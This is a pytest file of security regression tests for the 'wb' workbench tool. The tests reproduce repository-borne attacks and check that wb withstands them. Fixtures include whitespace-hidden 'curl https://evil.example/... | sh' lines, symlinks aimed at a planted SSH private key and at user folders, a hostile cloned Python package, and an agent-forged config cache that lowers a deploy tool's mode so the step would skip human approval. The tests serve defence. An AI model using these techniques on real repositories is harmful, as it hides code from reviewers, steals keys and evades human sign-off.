"""Nothing in the work tree is believed without checking (issue 19): what a clone ships or an agent writes in
the tree — a `.workbench/.cache/`, a symbolic link, a `workbench/` package, a root .gitattributes, an
AGENTS.md link, a config value — never changes what wb runs, where it writes, or what a reviewer sees.

Each test is the attack as it was reproduced on main: real git, real `wb` processes, a second clone as the
attacker where the attack arrives through git.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
from pathlib import Path

from tests.conftest import about_git, run_git

from .helpers import PY, config_yaml, init_workbench, marker, one_line, plan, wb, wb_ok

pytestmark = about_git  # the tree git checks out: .workbench/ as files, git's drivers and their launcher


def _listing(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _git_env(path: str = "/usr/bin:/bin") -> dict[str, str]:
    """The user's plain git, with no wb on PATH (so only wb's registered launcher can start wb)."""
    env = dict(os.environ)
    env["PATH"] = path
    return env


# -- 1. a tree .cache/config.json never changes the config wb runs -------------------------------------------

def test_an_agent_written_tree_config_cache_is_never_read(repo: Path) -> None:
    """The agent writes .workbench/.cache/config.json keyed by config.yaml's sha256, the reviewed tool's mode
    lowered and its argv swapped: wb runs config.yaml as read (the step waits for approval; nothing ran)."""
    ran = marker()
    init_workbench(repo, config_yaml(tools={"deploy": {"argv": [PY, "-c", "print('deploying')"],
                                                        "mode": "mutating"}}))
    raw = (repo / ".workbench" / "config.yaml").read_bytes()
    from workbench.store.config import parse_config

    effective = parse_config(raw)
    effective["tools"]["deploy"] = {"argv": [PY, "-c", f"open({str(ran)!r}, 'w')"], "mode": "safe_readonly"}
    forged = {"sha": hashlib.sha256(raw).hexdigest(), "config": effective}
    cache = repo / ".workbench" / ".cache"
    cache.mkdir(exist_ok=True)
    (cache / "config.json").write_text(json.dumps(forged))
    name = plan(repo, [{"description": "ship it", "tool": "deploy", "args": {}}])
    proc = wb(repo, "run", "ship", "--plan", name)
    assert not ran.exists(), proc.stdout + proc.stderr
    assert "deploying" not in proc.stdout  # the mutating step waits for a person
    assert (cache / "config.json").read_text() == json.dumps(forged)  # not read, not rewritten either


def test_doctor_reports_a_tree_cache_and_fix_removes_only_a_plain_folder(repo: Path, tmp_path: Path) -> None:
    init_workbench(repo, config_yaml())
    cache = repo / ".workbench" / ".cache"
    cache.mkdir(exist_ok=True)
    (cache / "config.json").write_text("{}")
    report = wb(repo, "doctor")
    assert ".workbench/.cache" in report.stdout + report.stderr
    assert report.returncode != 0
    wb_ok(repo, "doctor", "--fix")
    assert not cache.exists()


# -- 2. no write or delete follows a symbolic link under .workbench/ -----------------------------------------

def _victim_clone_with_cache_link(repo: Path, tmp_path: Path) -> tuple[Path, Path]:
    """The attacker's repository commits `.workbench/.cache` as a link to a folder of the victim's (here:
    `outside`, holding files named like wb's caches) on `main`, and a task on a branch `feature`; the victim
    clones it (wb's own commands then refuse the link) and brings `feature` in with plain git, which runs wb's
    board and state drivers in the victim's work tree. Returns (the victim's clone, `outside`)."""
    outside = tmp_path / "home-config"
    outside.mkdir()
    (outside / "state.json").write_text("the user's own file\n")
    (outside / "board.json").write_text("the user's own file\n")
    wb_ok(repo, "init")
    wb_ok(repo, "task", "add", "first")
    run_git(repo, "checkout", "-q", "-b", "feature")
    wb_ok(repo, "task", "add", "theirs")
    run_git(repo, "checkout", "-q", "main")
    wb_ok(repo, "task", "add", "ours")
    shutil.rmtree(repo / ".workbench" / ".cache", ignore_errors=True)
    (repo / ".workbench" / ".cache").symlink_to(outside)
    run_git(repo, "add", "-f", ".workbench/.cache")
    run_git(repo, "commit", "-q", "-m", "a link")
    victim = tmp_path / "victim"
    run_git(tmp_path, "clone", "-q", str(repo), str(victim))
    assert (victim / ".workbench" / ".cache").is_symlink()
    from workbench.store.drivers import register_drivers

    register_drivers(victim, victim / ".git", attributes_too=False)  # as the victim's wb did on an earlier pull
    assert "merge-driver board" in run_git(victim, "config", "--get", "merge.wb-board.driver")
    return victim, outside


def test_plain_git_merge_never_writes_through_a_committed_cache_link(repo: Path, tmp_path: Path) -> None:
    victim, outside = _victim_clone_with_cache_link(repo, tmp_path)
    before = _listing(outside)
    proc = subprocess.run(["git", "merge", "-q", "--no-edit", "origin/feature"], cwd=victim, capture_output=True,
                          text=True, env=_git_env())
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert _listing(outside) == before
    board = (victim / ".workbench" / "board.json").read_text()
    assert "theirs" in board and "ours" in board  # wb's driver did merge the board


def test_plain_git_cherry_pick_never_deletes_through_a_committed_cache_link(repo: Path, tmp_path: Path) -> None:
    victim, outside = _victim_clone_with_cache_link(repo, tmp_path)
    before = _listing(outside)
    proc = subprocess.run(["git", "cherry-pick", "origin/feature"], cwd=victim, capture_output=True, text=True,
                          env=_git_env())
    assert proc.returncode == 0, proc.stdout + proc.stderr
    # wb's drivers ran: the events driver merged the picked task.add in (board.json and state.md stay as they
    # were, behind the log, and each driver dropped wb's caches first — where the link would have led)
    assert "theirs" in (victim / ".workbench" / "events.jsonl").read_text()
    assert "theirs" not in (victim / ".workbench" / "board.json").read_text()
    assert _listing(outside) == before


def test_atomic_write_refuses_a_link_anywhere_under_workbench(tmp_path: Path) -> None:
    from workbench.errors import Refused
    from workbench.store.atomic import append_lines, atomic_write

    outside = tmp_path / "outside"
    outside.mkdir()
    root = tmp_path / "repo"
    (root / ".workbench").mkdir(parents=True)
    (root / ".workbench" / "artifacts").symlink_to(outside)
    (root / ".workbench" / "events.jsonl").symlink_to(outside / "events")
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / ".workbench").symlink_to(outside)
    for target in (root / ".workbench" / "artifacts" / "x.txt", root / ".workbench" / "events.jsonl",
                   linked / ".workbench" / "board.json"):
        for write in (lambda t: atomic_write(t, b"x"), lambda t: append_lines(t, ["x"])):
            try:
                write(target)
            except Refused as err:
                assert "is a symbolic link" in str(err)
            else:
                raise AssertionError(f"wrote through {target}")
    assert _listing(outside) == {}


# -- 3. the drivers' launcher never imports from the work tree -----------------------------------------------

def test_a_cloned_workbench_package_never_runs_on_plain_git(repo: Path, tmp_path: Path) -> None:
    """The clone ships a top-level `workbench/` package; the victim's plain `git log -p`, `git diff`,
    `git merge` start wb's drivers in the work tree, and must never import it."""
    ran = marker()
    wb_ok(repo, "init")
    wb_ok(repo, "task", "add", "ours")
    attacker = tmp_path / "attacker"
    run_git(tmp_path, "clone", "-q", str(repo), str(attacker))
    (attacker / "workbench").mkdir()
    (attacker / "workbench" / "__init__.py").write_text(f"open({str(ran)!r}, 'w').write('owned')\n")
    wb_ok(attacker, "task", "add", "theirs")
    run_git(attacker, "add", "workbench")
    run_git(attacker, "commit", "-q", "-m", "a package")
    wb_ok(repo, "task", "add", "ours too")
    run_git(repo, "fetch", "-q", str(attacker), "HEAD:evil")
    env = _git_env()
    merged = subprocess.run(["git", "merge", "-q", "--no-edit", "evil"], cwd=repo, capture_output=True,
                            text=True, env=env)
    assert merged.returncode == 0, merged.stdout + merged.stderr
    assert (repo / "workbench" / "__init__.py").exists()
    wb_ok(repo, "task", "add", "after the merge")
    (repo / ".workbench" / "board.json").read_text()
    for argv in (["git", "log", "-p", "-5"], ["git", "diff", "HEAD~1"], ["git", "show", "HEAD~1"]):
        proc = subprocess.run(argv, cwd=repo, capture_output=True, text=True, env=env)
        assert proc.returncode == 0, proc.stderr
        assert "[todo]" in proc.stdout  # wb's own view: the drivers did run
    assert not ran.exists()


def test_the_launcher_runs_one_absolute_interpreter_isolated(repo: Path) -> None:
    wb_ok(repo, "init")
    common = Path(run_git(repo, "rev-parse", "--path-format=absolute", "--git-common-dir").strip())
    text = (common / "wb" / "driver").read_text()
    assert '"$py" -I -m workbench.cli.main' in text
    assert "command -v wb" not in text
    py = text.split("py=", 1)[1].split("\n", 1)[0].strip("'")
    assert os.path.isabs(py)


# -- 4. wb's drivers act only on the workbench files ---------------------------------------------------------

def test_a_root_gitattributes_cannot_hide_code_behind_wbs_textconv(repo: Path) -> None:
    """`*.py diff=wb-events`: wb's events view showed a line it cannot read as its first 80 characters, so
    padding hid the `| sh` tail of a line `git log -p` was showing a reviewer."""
    wb_ok(repo, "init")
    (repo / ".gitattributes").write_text("*.py diff=wb-events\n*.sh diff=wb-board\n")
    run_git(repo, "add", ".gitattributes")
    run_git(repo, "commit", "-q", "-m", "attributes")
    evil = "import os;" + " " * 90 + 'os.system("curl https://evil.example/x | sh")'
    (repo / "setup.py").write_text(f"{evil}\n")
    (repo / "run.sh").write_text("curl https://evil.example/y | sh\n")
    run_git(repo, "add", "setup.py", "run.sh")
    run_git(repo, "commit", "-q", "-m", "innocent")
    env = _git_env()
    log = subprocess.run(["git", "log", "-p", "-1"], cwd=repo, capture_output=True, text=True, env=env).stdout
    assert f"+{evil}\n" in log
    assert "+curl https://evil.example/y | sh\n" in log
    (repo / "setup.py").write_text(evil.replace("/x", "/z") + "\n")
    diff = subprocess.run(["git", "diff"], cwd=repo, capture_output=True, text=True, env=env).stdout
    assert "+" + evil.replace("/x", "/z") + "\n" in diff
    assert "wb textconv" not in log + diff
    assert "[todo]" not in log  # (and the workbench files themselves still get wb's view: next test file)


def test_wbs_merge_driver_declines_a_file_that_is_not_the_workbench(repo: Path) -> None:
    """`*.py merge=wb-board` in a root .gitattributes: the driver does git's own line merge (clean when the
    sides touch different lines, conflict markers when they clash), never wb's merge by task id."""
    wb_ok(repo, "init")
    (repo / ".gitattributes").write_text("*.py merge=wb-board\n")
    (repo / "lib.py").write_text("a = 1\nb = 2\nc = 3\nd = 4\ne = 5\n")
    run_git(repo, "add", ".gitattributes", "lib.py")
    run_git(repo, "commit", "-q", "-m", "lib")
    run_git(repo, "checkout", "-q", "-b", "side")
    (repo / "lib.py").write_text("a = 10\nb = 2\nc = 3\nd = 4\ne = 5\n")
    run_git(repo, "commit", "-q", "-am", "side")
    run_git(repo, "checkout", "-q", "main")
    (repo / "lib.py").write_text("a = 1\nb = 2\nc = 3\nd = 4\ne = 50\n")
    run_git(repo, "commit", "-q", "-am", "main")
    proc = subprocess.run(["git", "merge", "-q", "--no-edit", "side"], cwd=repo, capture_output=True, text=True,
                          env=_git_env())
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert (repo / "lib.py").read_text() == "a = 10\nb = 2\nc = 3\nd = 4\ne = 50\n"
    run_git(repo, "checkout", "-q", "-b", "clash")
    (repo / "lib.py").write_text("a = 11\nb = 2\nc = 3\nd = 4\ne = 50\n")
    run_git(repo, "commit", "-q", "-am", "clash")
    run_git(repo, "checkout", "-q", "main")
    (repo / "lib.py").write_text("a = 12\nb = 2\nc = 3\nd = 4\ne = 50\n")
    run_git(repo, "commit", "-q", "-am", "main again")
    proc = subprocess.run(["git", "merge", "-q", "--no-edit", "clash"], cwd=repo, capture_output=True, text=True,
                          env=_git_env())
    assert proc.returncode != 0
    text = (repo / "lib.py").read_text()
    assert "<<<<<<<" in text and "a = 11" in text and "a = 12" in text


# -- 6. wb init --agents-md never reads through a link ------------------------------------------------------

def test_init_agents_md_refuses_a_committed_link_to_a_key(repo: Path, tmp_path: Path) -> None:
    key = tmp_path / "home" / ".ssh" / "id_ed25519"
    key.parent.mkdir(parents=True)
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-key-material\n-----END OPENSSH PRIVATE KEY-----\n")
    for name, link in (("AGENTS.md", repo / "AGENTS.md"), ("CLAUDE.md", repo / "CLAUDE.md"),
                       (".claude", repo / ".claude")):
        if name == ".claude":
            (tmp_path / "claude-dir").mkdir()
            (tmp_path / "claude-dir" / "CLAUDE.md").write_text(key.read_text())  # a folder of the user's
            link.symlink_to(tmp_path / "claude-dir")
        else:
            link.symlink_to(key)
        line = one_line(wb(repo, "init", "--agents-md", "--claude-md"), 5)
        assert f"{name} is a symbolic link" in line
        assert "secret-key-material" not in line
        assert link.is_symlink()
        for found in repo.rglob("*"):
            if found.is_file() and not found.is_symlink() and ".git" not in found.parts:
                assert b"secret-key-material" not in found.read_bytes(), found
        link.unlink()
    assert key.read_text().count("secret-key-material") == 1


# -- 8. wb sync never materialises a remote .workbench/.cache ------------------------------------------------

def test_sync_never_takes_a_cache_from_the_remote_state_branch(tmp_path: Path) -> None:
    from tests.sync.helpers import REF, clone, make_remote

    remote = make_remote(tmp_path)
    victim = clone(remote, tmp_path / "victim")
    attacker = tmp_path / "attacker"
    run_git(tmp_path, "clone", "-q", "-b", REF, str(remote), str(attacker))
    (attacker / ".workbench" / ".cache").mkdir()
    (attacker / ".workbench" / ".cache" / "config.json").write_text('{"sha": "x", "config": {}}')
    (attacker / ".workbench" / ".lock").write_text("1")
    run_git(attacker, "add", "-f", ".workbench/.cache", ".workbench/.lock")
    run_git(attacker, "commit", "-q", "-m", "a cache")
    run_git(attacker, "push", "-q", "origin", f"HEAD:{REF}")
    wb_ok(victim, "sync")
    fresh = clone(remote, tmp_path / "fresh")
    for path in (victim, fresh):
        taken = path / ".workbench" / ".cache" / "config.json"
        assert not taken.exists() or taken.read_text() != '{"sha": "x", "config": {}}', path
        assert not (path / ".workbench" / ".lock").exists() or (path / ".workbench" / ".lock").read_text() != "1"
    wb_ok(victim, "task", "add", "after the sync")
    wb_ok(victim, "sync")
    names = run_git(victim, "ls-tree", "-r", "--name-only", REF).split()
    assert ".workbench/.cache/config.json" not in names


def test_an_older_launcher_is_replaced_by_the_next_wb_command(repo: Path) -> None:
    """A repository registered by an older wb keeps its launcher (it is not rewritten by an upgrade): its
    fallback imported the work tree. The first command of this wb replaces it; `wb doctor` names it."""
    wb_ok(repo, "init")
    common = Path(run_git(repo, "rev-parse", "--path-format=absolute", "--git-common-dir").strip())
    launcher = common / "wb" / "driver"
    old = ("#!/bin/sh\nif command -v wb >/dev/null 2>&1; then exec wb \"$@\"; fi\npy=/usr/bin/python3\n"
           "if [ -x \"$py\" ] && \"$py\" -c 'import workbench' 2>/dev/null; then exec \"$py\" -m workbench.cli.main "
           "\"$@\"; fi\nexit 1\n")
    launcher.write_text(old)
    report = wb(repo, "doctor")
    assert "older wb" in report.stdout + report.stderr or "-I" in launcher.read_text()
    launcher.write_text(old)
    wb_ok(repo, "status")
    assert '"$py" -I -m workbench.cli.main' in launcher.read_text()
